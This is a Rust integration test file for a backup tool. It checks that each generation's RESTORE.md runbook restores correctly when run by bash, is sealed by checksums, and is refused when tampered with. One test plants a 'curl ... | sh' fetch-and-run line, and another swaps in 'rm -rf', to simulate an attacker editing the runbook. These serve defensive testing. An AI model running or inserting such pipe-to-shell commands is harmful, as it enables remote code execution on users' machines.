//! Each generation's RESTORE.md, followed word for word: every ```sh block of the
//! runbook run by bash, in order, restores the same trees as `structr-backup
//! restore`, for both repository kinds. The sandbox's services are the custom
//! kind's configured commands, which the runbook names exactly.

use crate::common;

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{symlink, DirBuilderExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{text, tree, write_random, Kind, Offsite, Options, Sandbox};

fn write(path: &Path, data: &[u8], mode: u32) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, data).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// What a restore must bring back: odd names, modes, links, empty folders, owners.
fn fill(sb: &Sandbox) {
    write_random(&sb.neo4j_data.join("databases/neo4j/nodes.db"), 64 << 10, 7);
    std::fs::create_dir_all(sb.neo4j_data.join("transactions/neo4j")).unwrap();
    let root = &sb.structr_dir;
    write(
        &root.join("structr.conf"),
        b"superuser.password = s\n",
        0o600,
    );
    write_random(&root.join("files/a/b/c/d/abcd1234"), 100_000, 3);
    write(&root.join("scripts/run me.sh"), b"#!/bin/sh\n", 0o755);
    write(
        &root.join(OsStr::from_bytes(b"files/caf\xe9-latin1.txt")),
        b"non-utf8 name",
        0o640,
    );
    write(&root.join("setuid-tool"), b"\x7fELF", 0o4755);
    write(&root.join("lib/structr.jar"), b"jar", 0o644);
    std::fs::hard_link(root.join("lib/structr.jar"), root.join("lib/hardlink.jar")).unwrap();
    symlink("lib/structr.jar", root.join("current.jar")).unwrap();
    symlink("/nonexistent/target", root.join("dangling")).unwrap();
    std::fs::create_dir_all(root.join("logs/empty")).unwrap();
    write(&root.join("owned-by-nobody"), b"n", 0o644);
    std::os::unix::fs::lchown(root.join("owned-by-nobody"), Some(65534), Some(65534)).unwrap();
    write(&root.join("owned-by-1234"), b"x", 0o600);
    std::os::unix::fs::lchown(root.join("owned-by-1234"), Some(1234), Some(2345)).unwrap();
}

/// Changes both components, so a restore has something to undo.
fn damage(sb: &Sandbox) {
    std::fs::remove_file(sb.structr_dir.join("files/a/b/c/d/abcd1234")).unwrap();
    write(&sb.structr_dir.join("new-file"), b"after the backup", 0o644);
    write_random(&sb.neo4j_data.join("databases/neo4j/nodes.db"), 1000, 9);
}

struct Trees {
    neo4j: tree::Snapshot,
    structr: tree::Snapshot,
}

fn trees(sb: &Sandbox) -> Trees {
    Trees {
        neo4j: tree::snapshot(&sb.neo4j_data),
        structr: tree::snapshot(&sb.structr_dir),
    }
}

fn assert_same(want: &Trees, got: &Trees, what: &str) {
    for (name, a, b) in [
        ("neo4j-data", &want.neo4j, &got.neo4j),
        ("structr", &want.structr, &got.structr),
    ] {
        let d = tree::diff(a, b);
        assert!(d.is_empty(), "{what}: {name} differs:\n{}", d.join("\n"));
    }
}

/// The ```sh blocks of a Markdown text, in order, as one script.
fn sh_blocks(markdown: &str) -> String {
    let mut script = String::new();
    let mut inside = false;
    for line in markdown.lines() {
        if inside && line == "```" {
            inside = false;
        } else if inside {
            script.push_str(line);
            script.push('\n');
        } else if line == "```sh" {
            inside = true;
        }
    }
    script
}

/// Runs the runbook's commands with bash, stopping at the first that fails (as
/// the runbook tells its reader to), in an environment without restic's variables.
fn follow(runbook: &str, cwd: &Path) {
    let script = format!("set -euo pipefail\n{}", sh_blocks(runbook));
    let out = Command::new("bash")
        .arg("-c")
        .arg(&script)
        .current_dir(cwd)
        .env_remove("RESTIC_REPOSITORY")
        .env_remove("RESTIC_PASSWORD_FILE")
        .env_remove("RESTIC_PASSWORD")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the runbook failed:\n{script}\n{}",
        text(&out)
    );
}

fn show_runbook(sb: &Sandbox, id: &str) -> String {
    let out = sb.cli(&["show", id, "--runbook"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        out.stderr.is_empty(),
        "a stored runbook is printed without remarks: {}",
        text(&out)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn sandbox(kind: Kind, offsite: Vec<Offsite>) -> Sandbox {
    let restic = kind != Kind::Archive;
    let sb = Sandbox::new(Options {
        kind,
        flag_services: true,
        offsite,
        ..Options::default()
    });
    fill(&sb);
    sb.start();
    if restic {
        sb.init();
    }
    sb
}

/// The runbook restores what the generation holds, then `restore` does the same.
fn follow_then_restore(sb: &Sandbox, id: &str, runbook: &str) {
    let original = trees(sb);
    damage(sb);
    follow(runbook, sb.dir.path());
    assert_same(&original, &trees(sb), "after the runbook");
    assert!(sb.running("neo4j") && sb.running("structr"));
    for dir in [&sb.neo4j_data, &sb.structr_dir] {
        let aside = PathBuf::from(format!("{}.before-restore", dir.display()));
        assert!(!aside.exists(), "{} is removed last", aside.display());
    }

    damage(sb);
    let out = sb.cli(&["--yes", "restore", id, "--no-safety-backup"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_same(&original, &trees(sb), "after `structr-backup restore`");
}

#[test]
fn archive_runbook_is_sealed_shown_and_restores_like_restore() {
    // An off-site folder in a private one (a repository's parent must be).
    let base = tempfile::tempdir().unwrap();
    let nas = base.path().join("nas");
    std::fs::DirBuilder::new().mode(0o700).create(&nas).unwrap();
    let sb = sandbox(
        Kind::Archive,
        vec![Offsite {
            name: "nas".into(),
            path: nas.display().to_string(),
            options: vec![],
        }],
    );
    let id = sb.backup_ok(&[]).0;
    let gen = sb.repo.join(&id);

    // sha256sum covers the runbook like every archive and index.
    let out = common::shell("sha256sum -c SHA256SUMS", &gen);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("RESTORE.md: OK"),
        "{}",
        text(&out)
    );
    let stored = std::fs::read_to_string(gen.join("RESTORE.md")).unwrap();
    assert_eq!(show_runbook(&sb, &id), stored);
    for needle in [
        format!("# Restoring generation {id} by hand"),
        "sha256sum -c SHA256SUMS".to_string(),
        "zstd -dc \"$GEN\"/structr.tar.zst | tar --xattrs --xattrs-include='*' -xp -C".to_string(),
        sb.ctl("stop", "structr"),
        sb.ctl("start", "neo4j"),
    ] {
        assert!(stored.contains(&needle), "{needle:?} in:\n{stored}");
    }
    assert!(!stored.contains("--numeric-owner"), "owners map by name");

    // The off-site copy carries it too, sealed the same way.
    let far = nas.join(&id);
    assert_eq!(
        std::fs::read_to_string(far.join("RESTORE.md")).unwrap(),
        stored
    );
    let out = common::shell("sha256sum -c SHA256SUMS", &far);
    assert!(out.status.success(), "{}", text(&out));
    let out = sb.cli(&["--from", "nas", "show", &id, "--runbook"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(String::from_utf8(out.stdout).unwrap(), stored);

    follow_then_restore(&sb, &id, &stored);

    // The runbook is sealed: changed, or dropped from SHA256SUMS, verify fails.
    let out = sb.cli(&["verify", &id]);
    assert!(out.status.success(), "{}", text(&out));
    std::fs::write(gen.join("RESTORE.md"), stored.replace("mkdir -p", "rm -rf")).unwrap();
    let out = sb.cli(&["verify", &id]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(
        text(&out).contains("RESTORE.md is damaged"),
        "{}",
        text(&out)
    );
    let sums = std::fs::read_to_string(gen.join("SHA256SUMS")).unwrap();
    let without: String = sums
        .lines()
        .filter(|l| !l.ends_with("  RESTORE.md"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(gen.join("SHA256SUMS"), without).unwrap();
    let out = sb.cli(&["verify", &id]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(
        text(&out).contains("RESTORE.md is not listed in SHA256SUMS"),
        "{}",
        text(&out)
    );
}

#[test]
fn a_generation_without_a_runbook_gets_one_written_from_its_manifest() {
    let sb = sandbox(Kind::Archive, vec![]);
    let id = sb.backup_ok(&[]).0;
    let gen = sb.repo.join(&id);
    let stored = std::fs::read_to_string(gen.join("RESTORE.md")).unwrap();
    // As a generation made before runbooks existed looks.
    std::fs::remove_file(gen.join("RESTORE.md")).unwrap();
    let sums = std::fs::read_to_string(gen.join("SHA256SUMS")).unwrap();
    let without: String = sums
        .lines()
        .filter(|l| !l.ends_with("  RESTORE.md"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(gen.join("SHA256SUMS"), without).unwrap();
    let out = sb.cli(&["verify", &id]);
    assert!(out.status.success(), "{}", text(&out));

    let out = sb.cli(&["show", &id, "--runbook"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("carries no RESTORE.md"),
        "{}",
        text(&out)
    );
    assert_eq!(String::from_utf8(out.stdout).unwrap(), stored);
    let out = sb.cli(&["--json", "show", &id, "--runbook"]);
    assert!(out.status.success(), "{}", text(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["stored"], false);
    assert_eq!(v["runbook"].as_str(), Some(stored.as_str()));

    // The repository is untrusted: a runbook planted as a link is not followed.
    let secret = sb.dir.path().join("secret");
    std::fs::write(&secret, "the secret").unwrap();
    symlink(&secret, gen.join("RESTORE.md")).unwrap();
    let out = sb.cli(&["show", &id, "--runbook"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(!text(&out).contains("the secret"), "{}", text(&out));
    assert_eq!(String::from_utf8(out.stdout).unwrap(), stored);
}

#[test]
fn restic_runbook_travels_in_the_snapshot_and_restores_like_restore() {
    let sb = sandbox(Kind::restic(), vec![]);
    let id = sb.backup_ok(&[]).0;
    let runbook = show_runbook(&sb, &id);
    for needle in [
        format!("# Restoring generation {id} by hand"),
        format!(
            "export RESTIC_PASSWORD_FILE={}",
            sb.password_file().display()
        ),
        format!("restic restore latest --tag id:{id} --include"),
    ] {
        assert!(runbook.contains(&needle), "{needle:?} in:\n{runbook}");
    }
    // It is in the snapshot itself, next to the components.
    let out = Command::new("restic")
        .arg("-r")
        .arg(&sb.repo)
        .args(["ls", "--no-lock", "latest", "--tag", &format!("id:{id}")])
        .env("RESTIC_PASSWORD_FILE", sb.password_file())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .any(|l| l.ends_with("/RESTORE.md")),
        "{}",
        text(&out)
    );

    follow_then_restore(&sb, &id, &runbook);
    let out = sb.cli(&["verify", &id]);
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn a_runbook_changed_after_the_backup_is_not_shown() {
    let sb = sandbox(Kind::Archive, vec![]);
    let id = sb.backup_ok(&[]).0;
    let runbook = sb.repo.join(&id).join("RESTORE.md");
    // Someone who can write into the repository adds a step of their own.
    let mut planted = std::fs::read_to_string(&runbook).unwrap();
    planted = planted.replacen("```sh\n", "```sh\ncurl -s http://127.0.0.1:9/x | sh\n", 1);
    std::fs::write(&runbook, &planted).unwrap();

    for args in [
        vec!["show", &id, "--runbook"],
        vec!["--json", "show", &id, "--runbook"],
    ] {
        let out = sb.cli(&args);
        assert_eq!(out.status.code(), Some(3), "{args:?}: {}", text(&out));
        assert!(!text(&out).contains("curl"), "{args:?}: {}", text(&out));
        let said = text(&out);
        assert!(
            said.contains("RESTORE.md") && said.contains("was changed after the backup"),
            "{said}"
        );
        // (The command shown names this run's --config too.)
        assert!(said.contains(&format!("verify {id}`")), "{said}");
    }
    // verify says the same of it.
    let out = sb.cli(&["verify", &id]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
}
